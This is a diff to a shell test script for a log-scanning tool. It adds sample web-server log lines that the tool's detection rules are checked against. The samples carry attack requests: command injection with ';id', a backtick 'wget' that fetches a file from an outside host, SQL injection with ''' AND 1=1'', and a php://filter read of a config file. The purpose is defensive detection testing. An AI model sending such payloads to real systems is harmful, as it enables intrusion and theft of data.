@@ -631,4 +631,23 @@ check "suricata: an exploit" grep -q \
 check "suricata: another class by its severity" grep -q \
 	"eve.json:5: hit \[medium\] Suricata alert, severity 2" "$T/eve.out"
 
+# Web attacks in forms the first lists missed: ";id" ending a value, a
+# backtick command, "' AND 1=1", PHP stream wrappers; a plain "q=id" is
+# nothing.
+cat >"$T/webx.log" <<'EOF'
+203.0.113.9 - - [01/Mar/2024:10:00:00 +0000] "GET /ping?host=127.0.0.1%3Bid HTTP/1.1" 200 12 "-" "curl/8"
+203.0.113.9 - - [01/Mar/2024:10:00:01 +0000] "GET /ping?host=1%60wget%20http://198.51.100.1/x%60 HTTP/1.1" 200 12 "-" "curl/8"
+203.0.113.10 - - [01/Mar/2024:10:00:02 +0000] "GET /item?id=42%27%20AND%201=1--%20- HTTP/1.1" 200 12 "-" "curl/8"
+203.0.113.11 - - [01/Mar/2024:10:00:03 +0000] "GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1" 200 12 "-" "curl/8"
+198.51.100.20 - - [01/Mar/2024:10:00:04 +0000] "GET /search?q=id HTTP/1.1" 200 12 "-" "Mozilla/5.0"
+EOF
+"$VIGIL" rules test "$SRCDIR/rules/web" "$T/webx.log" >"$T/webx.out" 2>&1
+check "web: ;id at the end, backticks" grep -q \
+	"OS command injection attempt in a web request (.*(2 events)" \
+	"$T/webx.out"
+check "web: ' AND 1=1" grep -q "webx.log:3: .*SQL injection" "$T/webx.out"
+check "web: php://filter" grep -q "webx.log:4: .*Path traversal" \
+	"$T/webx.out"
+check "web: q=id is nothing" bash -c "! grep -q 'webx.log:5:' '$T/webx.out'"
+
 finish
